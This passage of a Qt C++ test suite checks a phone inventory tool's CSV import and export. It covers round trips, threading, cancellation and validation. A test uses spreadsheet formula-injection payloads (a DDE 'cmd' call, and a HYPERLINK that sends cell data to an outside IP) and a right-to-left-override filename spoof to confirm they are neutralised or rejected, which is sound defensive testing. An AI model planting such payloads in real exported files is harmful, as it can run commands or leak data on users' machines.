    sipRemote.remoteAddress = QStringLiteral("sip:bob@example.com;transport=tls");
    phones.append(sipRemote);
    auto saved = s->phones().saveMany(phones, {}, QStringLiteral("phone.create"));
    QVERIFY2(saved.ok(), saved.ok() ? "" : qPrintable(saved.error().fullText()));

    const QList<Phone> before = allPhones();
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("export.csv"));
    auto written = PhoneExport::exportAllToFile(*s, path);
    QVERIFY2(written.ok(), written.ok() ? "" : qPrintable(written.error().fullText()));
    QCOMPARE(*written, before.size());
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray exported = file.readAll();

    // Delete everything, import the export: the same phones (ids and versions aside).
    QList<Id> ids;
    for (const Phone &p : before)
        ids.append(p.id);
    QVERIFY(s->phones().remove(ids).ok());
    QCOMPARE(phoneCount(), 0);
    auto plan = PhoneImporter(*s).prepareFile(path, ImportMode::CreateOnly);
    QVERIFY(plan.ok());
    QCOMPARE(texts(plan->issues), QStringList());
    auto r = PhoneImporter(*s).commit(*plan, false);
    QVERIFY2(r.ok(), r.ok() ? "" : qPrintable(r.error().fullText()));
    QCOMPARE(r->created, before.size());
    const QList<Phone> after = allPhones();
    QCOMPARE(after.size(), before.size());
    for (qsizetype i = 0; i < before.size(); ++i) {
        Phone a = before[i];
        Phone b = after[i];
        a.id = b.id = 0;
        a.version = b.version = 0;
        QCOMPARE(b.name, a.name);
        QCOMPARE(b.lineKeys, a.lineKeys);
        QCOMPARE(b.overrides, a.overrides);
        QVERIFY2(a == b, qPrintable(a.name));
    }
    // Exporting again writes the same bytes.
    QBuffer again;
    again.open(QIODevice::WriteOnly);
    QVERIFY(PhoneExport::write(*s, after, again).ok());
    QCOMPARE(again.data(), exported);

    // Re-importing with upsert changes nothing but the versions.
    auto upsert = PhoneImporter(*s).prepare(exported, ImportMode::UpsertByName);
    QVERIFY(upsert.ok());
    QCOMPARE(texts(upsert->issues), QStringList());
    QCOMPARE(upsert->updates(), before.size());
    QVERIFY(PhoneImporter(*s).commit(*upsert, false).ok());
    const QList<Phone> upserted = allPhones();
    for (qsizetype i = 0; i < after.size(); ++i) {
        Phone b = upserted[i];
        QCOMPARE(b.version, after[i].version + 1);
        b.version = after[i].version;
        QVERIFY(b == after[i]);
    }
}

void TestPhoneImport::exportSelectionToFile()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("sel.csv"));
    auto written = PhoneExport::exportToFile(*s, {m_existing.id, 999999}, path, {';', false, true});
    QVERIFY(written.ok());
    QCOMPARE(*written, 1);
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    QCOMPARE(
        file.readAll(),
        QByteArray("\xEF\xBB\xBFname;category;model;base_settings;site;hardware_id;user;remote_address;"
                   "network_address;serial_number;description;line_keys\n"
                   "Existing;managed;poly-vvx-450;VVX 450;Berlin;00:04:F2:00:00:01;;;;;kept;1=line Main\n"));
    auto bad =
        PhoneExport::exportToFile(*s, {m_existing.id}, dir.filePath(QStringLiteral("no/such/dir/x.csv")));
    QVERIFY(!bad.ok());
    QCOMPARE(bad.error().code, Error::Code::Io);
}

void TestPhoneImport::formulaCellsAreNeutralizedAndRoundTrip()
{
    // Names a spreadsheet would run, a site and a description starting with one, an E.164 remote
    // address: the export puts a ' before each, the import takes it off again.
    Site hq;
    hq.name = QStringLiteral("@HQ");
    hq.primarySip = {QStringLiteral("sip.example.com"), 5061, SipTransport::Tls};
    hq = *s->sites().create(hq);
    QList<Phone> phones;
    auto managedPhone = [&](const QString &name, const QByteArray &mac) {
        Phone p;
        p.name = name;
        p.baseSettingsId = m_vvx450.id;
        p.siteId = m_berlin.id;
        p.hardwareId = QString::fromLatin1(mac);
        phones.append(p);
        return &phones.last();
    };
    managedPhone(QStringLiteral("=cmd|' /C calc'!A0"), "0004f2aa0001");
    managedPhone(QStringLiteral("=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"Click\")"), "0004f2aa0002");
    managedPhone(QStringLiteral("-Spare-"), "0004f2aa0003")->siteId = hq.id;
    managedPhone(QStringLiteral("'=already quoted"), "0004f2aa0004")->description = QStringLiteral("=1+1");
    Phone remote;
    remote.name = QStringLiteral("+Home office");
    remote.category = PhoneCategory::Remote;
    remote.baseSettingsId = m_remote.id;
    remote.siteId = m_berlin.id;
    remote.remoteAddress = QStringLiteral("+4930123456");
    phones.append(remote);
    QVERIFY(s->phones().saveMany(phones, {}, QStringLiteral("phone.create")).ok());
    QVERIFY(s->phones().remove({m_existing.id}).ok());
    const QList<Phone> before = allPhones();

    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("export.csv"));
    QVERIFY(PhoneExport::exportAllToFile(*s, path).ok());
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray exported = file.readAll();
    const QList<QByteArray> lines = exported.split('\n');
    QCOMPARE(lines.size(), 7); // header, five phones, the empty rest after the last line end
    QCOMPARE(
        lines.at(1),
        QByteArray("''=already quoted,managed,poly-vvx-450,VVX 450,Berlin,00:04:F2:AA:00:04,,,,,'=1+1,\r"));
    QCOMPARE(lines.at(2), QByteArray("'+Home office,remote,remote,Remote,Berlin,,,'+4930123456,,,,\r"));
    QCOMPARE(lines.at(3), QByteArray("'-Spare-,managed,poly-vvx-450,VVX 450,'@HQ,00:04:F2:AA:00:03,,,,,,\r"));
    QCOMPARE(lines.at(4),
             QByteArray("'=HYPERLINK(\"\"http://198.51.100.7/?\"\"&A1,\"\"Click\"\")\",managed,"
                        "poly-vvx-450,VVX 450,Berlin,00:04:F2:AA:00:02,,,,,,\r")
                 .prepend('"'));
    QCOMPARE(lines.at(5),
             QByteArray("'=cmd|' /C calc'!A0,managed,poly-vvx-450,VVX 450,Berlin,00:04:F2:AA:00:01,,,,,,\r"));

    // Without neutralising (the CLI's --raw), the cells are written as they are.
    QBuffer raw;
    raw.open(QIODevice::WriteOnly);
    Csv::WriteOptions rawOptions;
    rawOptions.neutralizeFormulas = false;
    QVERIFY(PhoneExport::write(*s, before, raw, rawOptions).ok());
    QVERIFY(raw.data().contains("\n=cmd|' /C calc'!A0,managed,"));
    QVERIFY(raw.data().contains(",+4930123456,"));

    // Imported again: the very same names, site, description and remote address.
    QList<Id> ids;
    for (const Phone &p : before)
        ids.append(p.id);
    QVERIFY(s->phones().remove(ids).ok());
    auto plan = PhoneImporter(*s).prepareFile(path, ImportMode::CreateOnly);
    QVERIFY(plan.ok());
    QCOMPARE(texts(plan->issues), QStringList());
    QCOMPARE(plan->preview.at(1).fields.value(0), QStringLiteral("+Home office")); // shown as imported
    QVERIFY(PhoneImporter(*s).commit(*plan, false).ok());
    const QList<Phone> after = allPhones();
    QCOMPARE(after.size(), before.size());
    for (qsizetype i = 0; i < before.size(); ++i) {
        QCOMPARE(after[i].name, before[i].name);
        QCOMPARE(after[i].siteId, before[i].siteId);
        QCOMPARE(after[i].description, before[i].description);
        QCOMPARE(after[i].remoteAddress, before[i].remoteAddress);
    }
    // A file written by hand or a spreadsheet (no apostrophes) imports as it is: an E.164 number
    // in a remote phone's row is accepted either way.
    const ImportPlan plain = prepare(Header + "Remote 2,remote,Remote,Berlin,,,+4930999999,,\n" +
                                     "Remote 3,remote,Remote,Berlin,,,'+4930888888,,\n");
    QCOMPARE(texts(plain.issues), QStringList());
    QCOMPARE(plain.rows.at(0).phone.remoteAddress, QStringLiteral("+4930999999"));
    QCOMPARE(plain.rows.at(1).phone.remoteAddress, QStringLiteral("+4930888888"));
}

void TestPhoneImport::invisibleCharactersNameRowAndColumn()
{
    const QByteArray data = Header + row(u"Desk \u202Etxt.exe"_qs.toUtf8(), "00:04:f2:00:10:01") +
        row("Desk 2", "00:04:f2:00:10:02", u",,Front\u200Bdesk,"_qs.toUtf8()) +
        row("Desk 3", "00:04:f2:00:10:03", u",,,1=line;2=line Al\u2066ice"_qs.toUtf8()) +
        row(u"\uFEFFDesk 4"_qs.toUtf8(), "00:04:f2:00:10:04") +
        row(u"\u0645\u06CC\u200C\u062E"_qs.toUtf8(), "00:04:f2:00:10:05"); // Persian: accepted
    const ImportPlan plan = prepare(data);
    QCOMPARE(texts(plan.issues),
             QStringList({u"Line 2, column 1 (name): Name must not contain invisible or text-direction "
                          "characters (U+202E at character 6)."_qs,
                          u"Line 3, column 8 (description): Description must not contain invisible or "
                          "text-direction characters (U+200B at character 6)."_qs,
                          u"Line 4, column 9 (line_keys): Line key 2: the label must not contain invisible "
                          "or text-direction characters (U+2066 at character 3)."_qs,
                          u"Line 5, column 1 (name): Name must not contain invisible or text-direction "
                          "characters (U+FEFF at character 1)."_qs}));
    QCOMPARE(plan.rows.size(), 1);
    QCOMPARE(plan.rows.first().line, 6);
}

void TestPhoneImport::fileReadInBlocksGivesTheSamePlan()
{
    // More than one block of the file (Csv::Reader reads 4 MiB at a time): reading the file gives
    // exactly the plan of reading the same bytes from memory, problems on both sides of a block
    // edge included.
    QByteArray data = manyRows(90000);
    data += row("Bulk 5", "00:04:f2:ff:ff:01"); // the name is taken on line 7
    data += row("Broken \"quote", "00:04:f2:ff:ff:02");
    QVERIFY(data.size() > 4 * 1024 * 1024);
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("big.csv"));
    {
        QFile f(path);
        QVERIFY(f.open(QIODevice::WriteOnly));
        QCOMPARE(f.write(data), data.size());
    }
    auto fromFile = PhoneImporter(*s).prepareFile(path, ImportMode::CreateOnly);
    QVERIFY(fromFile.ok());
    const ImportPlan fromMemory = prepare(data);
    QCOMPARE(texts(fromFile->issues), texts(fromMemory.issues));
    QCOMPARE(
        texts(fromFile->issues),
        QStringList({u"Line 90002, column 1 (name): the name \"Bulk 5\" is also used on line 7."_qs,
                     u"Line 90003, column 1 (name): a quote inside an unquoted field; put the whole field "
                     "in quotes and write the quote as two quotes (\"\")."_qs}));
    QVERIFY(fromFile->fatal);
    QCOMPARE(fromFile->dataRows, 90001);
    QCOMPARE(fromFile->rows.size(), 90000);
    for (qsizetype i = 0; i < fromFile->rows.size(); ++i) {
        QCOMPARE(fromFile->rows.at(i).line, fromMemory.rows.at(i).line);
        QVERIFY(fromFile->rows.at(i).phone == fromMemory.rows.at(i).phone);
    }
    QCOMPARE(fromFile->preview.size(), 100);
}

void TestPhoneImport::largeFileIssuesInFileOrder()
{
    // Rows are mapped and validated on several threads, in blocks: problems on both sides of
    // block edges and duplicates far apart must come out as a single thread would report them.
    QByteArray data = Header;
    auto macOf = [](int i) -> QByteArray {
        return "00:04:f2:01:" + QByteArray::number(i, 16).rightJustified(4, '0').insert(2, ':');
    };
    const int rows = 9000;
    for (int i = 0; i < rows; ++i) {
        const int line = i + 2;
        QByteArray name = "Bulk " + QByteArray::number(i);
        QByteArray mac = macOf(i);
        if (line == 2049 || line == 2050) // either side of the first block edge
            mac = "zz";
        if (line == 5001)
            name = "Bulk 1"; // the name of line 3
        if (line == 6000)
            mac = macOf(4094); // the hardware ID of line 4096
        if (line == 8999) {
            data += name + ",managed,VVX 450,Paris," + mac + ",,,,\n";
            continue;
        }
        if (line == 4097) {
            data += name + ",managed,VVX 450,Berlin," + mac + ",,,\n"; // one field short
            continue;
        }
        data += row(name, mac);
    }
    const QString badMac =
        u"Hardware ID: \"zz\" is not a MAC address. Use 12 hex digits, e.g. 00:04:F2:AB:CD:EF, "
        u"00-04-f2-ab-cd-ef, 0004.f2ab.cdef or 0004f2abcdef."_qs;
    const QStringList expected = {
        u"Line 2049, column 5 (hardware_id): "_qs + badMac,
        u"Line 2050, column 5 (hardware_id): "_qs + badMac,
        u"Line 4097: the row has 8 fields but the header has 9 columns."_qs,
        u"Line 5001, column 1 (name): the name \"Bulk 1\" is also used on line 3."_qs,
        u"Line 6000, column 5 (hardware_id): the hardware ID 00:04:F2:01:0F:FE is also used on line 4096."_qs,
        u"Line 8999, column 4 (site): there is no site named \"Paris\"."_qs,
    };
    const ImportPlan plan = prepare(data);
    QCOMPARE(texts(plan.issues), expected);
    QCOMPARE(plan.rows.size(), rows - 6);
    for (qsizetype i = 1; i < plan.rows.size(); ++i)
        QVERIFY(plan.rows.at(i - 1).line < plan.rows.at(i).line);
    QCOMPARE(plan.rows.first().phone.name, u"Bulk 0"_qs);
    QCOMPARE(plan.rows.last().phone.name, u"Bulk 8999"_qs);
    QCOMPARE(plan.rows.last().phone.hardwareId, u"0004f2012327"_qs);
    // Again: the same plan.
    const ImportPlan again = prepare(data);
    QCOMPARE(texts(again.issues), expected);
    QCOMPARE(again.rows.size(), plan.rows.size());
    for (qsizetype i = 0; i < plan.rows.size(); ++i)
        QVERIFY(again.rows.at(i).phone == plan.rows.at(i).phone &&
                again.rows.at(i).line == plan.rows.at(i).line);
}

void TestPhoneImport::cancelWhileReading()
{
    const int before = phoneCount();
    auto plan = PhoneImporter(*s).prepare(manyRows(1500), ImportMode::CreateOnly,
                                          [](qsizetype done, qsizetype) { return done < 512; });
    QVERIFY(!plan.ok());
    QCOMPARE(plan.error().code, Error::Code::Cancelled);
    QCOMPARE(phoneCount(), before);
}

void TestPhoneImport::cancelWhileSaving()
{
    const int before = phoneCount();
    const int auditBefore = auditCount();
    const ImportPlan plan = prepare(manyRows(1500));
    QCOMPARE(texts(plan.issues), QStringList());
    qsizetype calls = 0;
    auto r = PhoneImporter(*s).commit(plan, false, {}, [&](qsizetype done, qsizetype total) {
        ++calls;
        return done < total / 2; // cancel halfway: rows were already inserted in the transaction
    });
    QVERIFY(!r.ok());
    QCOMPARE(r.error().code, Error::Code::Cancelled);
    QVERIFY(calls >= 2);
    QCOMPARE(phoneCount(), before);
    QCOMPARE(auditCount(), auditBefore);
}

void TestPhoneImport::workerThreadImportsAndCancels()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("big.csv"));
    {
        QFile f(path);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write(manyRows(1200));
    }
    const int before = phoneCount();
    ImportSession session(m_db.spec, QStringLiteral("tester"), Role::Administrator);
    // Received in this thread (queued), as the import wizard receives them: a QSignalSpy on the
    // worker would append from the worker's thread while this one reads it.
    QList<bool> prepared;
    struct Commit
    {
        bool ok;
        bool cancelled;
        qint64 created;
    };
    QList<Commit> committed;
    connect(session.worker(), &ImportWorker::prepared, this,
            [&prepared](bool ok, const QString &) { prepared.append(ok); });
    connect(session.worker(), &ImportWorker::committed, this,
            [&committed](bool ok, bool cancelled, const QString &, qint64 created, qint64, qint64) {
                committed.append({ok, cancelled, created});
            });
    QThread *workerThread = nullptr;
    connect(
        session.worker(), &ImportWorker::progress, session.worker(),
        [&](ImportWorker::Phase phase, qint64, qint64) {
            workerThread = QThread::currentThread();
            if (phase == ImportWorker::Phase::Saving)
                session.cancel(); // runs in the worker thread, before the next row is saved
        },
        Qt::DirectConnection);
    session.prepare(path, ImportMode::CreateOnly);
    QTRY_COMPARE_WITH_TIMEOUT(prepared.size(), 1, 30000);
    QCOMPARE(prepared.first(), true);
    QVERIFY(workerThread && workerThread != QThread::currentThread());
    QCOMPARE(session.worker()->plan()->rows.size(), 1200);
    session.commit(false);
    QTRY_COMPARE_WITH_TIMEOUT(committed.size(), 1, 30000);
    QCOMPARE(committed.first().ok, false);
    QCOMPARE(committed.first().cancelled, true);
    QCOMPARE(phoneCount(), before);

    // Without cancelling, the same plan goes in.
    disconnect(session.worker(), &ImportWorker::progress, session.worker(), nullptr);
    session.commit(false);
    QTRY_COMPARE_WITH_TIMEOUT(committed.size(), 2, 30000);
    QCOMPARE(committed.last().ok, true);
    QCOMPARE(committed.last().created, 1200);
    QCOMPARE(phoneCount(), before + 1200);
}

QTEST_GUILESS_MAIN(TestPhoneImport)
void TestPhoneImport::planRowsKeepEveryField()
{
    // The plan keeps its rows encoded: every field must come back as it went in, for texts in any
    // script, every kind of hardware ID, updates, and line keys and overrides both shared between
    // rows and (past the number kept once) stored with each row.
    QList<ImportRow> rows;
    const QList<LineKey> sharedKeys = {{1, LineKeyType::Line, {}, {}},
                                       {2, LineKeyType::Blf, u"Ben \\ Smith \U0001F600"_qs, u"1002"_qs}};
    for (int i = 0; i < 90000; ++i) {
        ImportRow row;
        row.line = 2 + i * 3;
        Phone &p = row.phone;
        p.name = i % 2 ? u"Empfang \"%1\" Zoë 東京 \U0001F4DE"_qs.arg(i) : u"Desk %1"_qs.arg(i);
        p.category = PhoneCategory(i % 4);
        p.baseSettingsId = 1 + i % 3;
        p.siteId = 100000 + i;
        p.userId = i % 5 ? 0 : 7;
        switch (i % 4) {
        case 0:
            p.hardwareId = u"0004f2%1"_qs.arg(i, 6, 16, QLatin1Char('0'));
            break;
        case 1:
            p.hardwareId = i % 8 == 1 ? u"ffffffffffff"_qs : u"00a4f2%1"_qs.arg(i, 6, 16, QLatin1Char('0'));
            break;
        case 2:
            p.hardwareId = u"soft-%1.example.com"_qs.arg(i);
            break;
        default:
            p.remoteAddress = u"sip:bob%1@example.com;transport=tls"_qs.arg(i);
            break;
        }
        p.networkAddress = i % 7 ? QString() : u"10.0.0.%1:5060"_qs.arg(i % 250);
        p.serialNumber = i % 5 ? QString() : u"8012-%1"_qs.arg(i);
        p.description = i % 3 ? u"Two\nlines,\ttab %1"_qs.arg(i) : QString();
        if (i % 10 == 0)
            p.lineKeys = sharedKeys;
        else if (i % 20 != 5)
            p.lineKeys = {{3, LineKeyType::SpeedDial, u"Helpdesk/東京 %1"_qs.arg(i), u"+49301%1"_qs.arg(i)},
                          {5, LineKeyType::Unassigned, {}, {}}};
        if (i % 6 == 0)
            p.overrides = {{u"media.dscpRtp"_qs, 40 + i % 3},
                           {u"codecs.preferred"_qs, QStringList {u"audio/G722"_qs, u"audio/PCMU"_qs}},
                           {u"general.dynamicReload"_qs, false},
                           // Equal to QVariant's ==, but not the same value: must not be shared.
                           {u"test.flag"_qs, i % 12 == 0 ? QVariant(true) : QVariant(1)}};
        else if (i % 30 != 3)
            p.overrides = {{u"e911.lisUrl"_qs, u"https://lis.example.com/held?n=%1"_qs.arg(i)}};
        if (i % 9 == 0) {
            row.update = true;
            p.id = 5000000000LL + i;
            p.version = 3 + i % 4;
        }
        rows.append(row);
    }
    ImportRows compact;
    for (const ImportRow &row : std::as_const(rows))
        compact.append(row);
    QCOMPARE(compact.size(), rows.size());
    QCOMPARE(compact.updates(), qsizetype(std::count_if(rows.cbegin(), rows.cend(), [](const ImportRow &r) {
                 return r.update;
             })));
    for (qsizetype i = 0; i < rows.size(); ++i) {
        const ImportRow back = compact.at(i);
        if (back.line != rows.at(i).line || back.update != rows.at(i).update ||
            !(back.phone == rows.at(i).phone))
            QFAIL(
                qPrintable(u"row %1 differs: %2 / %3"_qs.arg(i).arg(back.phone.name, rows.at(i).phone.name)));
        if (back.phone.overrides.value(u"test.flag"_qs).metaType() !=
            rows.at(i).phone.overrides.value(u"test.flag"_qs).metaType())
            QFAIL(qPrintable(u"row %1: the type of an override changed"_qs.arg(i)));
    }
    qsizetype n = 0;
    for (const ImportRow &row : compact)
        n += row.line == rows.at(n).line;
    QCOMPARE(n, rows.size());
    // A copy shares the encoded rows and reads the same.
    const ImportRows copy = compact;
    QVERIFY(copy.last().phone == rows.last().phone);
}

void TestPhoneImport::duplicateTextsInTheFile()
{
    // Names and hardware IDs other than MACs (WebRTC addresses) are checked by their text, in any
    // script; a MAC in another notation is the same MAC.
    const ImportPlan plan =
        prepare(Header + "Zoë 東京,webrtc,WebRTC,Berlin,soft1.example.com,anna@example.com,,,\n" +
                "Zoe 東京,webrtc,WebRTC,Berlin,SOFT1.example.com,anna@example.com,,,\n" +
                "Zoë 東京,webrtc,WebRTC,Berlin,soft2.example.com,anna@example.com,,,\n" +
                row("Desk 1", "00:04:f2:00:00:10") + row("Desk 2", "0004F2000010") +
                row("Desk 3", "00:04:f2:00:00:11"));
    QCOMPARE(
        texts(plan.issues),
        QStringList(
            {u"Line 3, column 5 (hardware_id): the hardware ID soft1.example.com is also used on line 2."_qs,
             u"Line 4, column 1 (name): the name \"Zoë 東京\" is also used on line 2."_qs,
             u"Line 6, column 5 (hardware_id): the hardware ID 00:04:F2:00:00:10 is also used on line 5."_qs}));
    QCOMPARE(plan.rows.size(), 3);
    QCOMPARE(plan.rows.at(0).phone.name, u"Zoë 東京"_qs);
    QCOMPARE(plan.rows.at(0).phone.hardwareId, u"soft1.example.com"_qs);
    QCOMPARE(plan.rows.at(2).phone.hardwareId, u"0004f2000011"_qs);
}

#include "tst_phoneimport.moc"
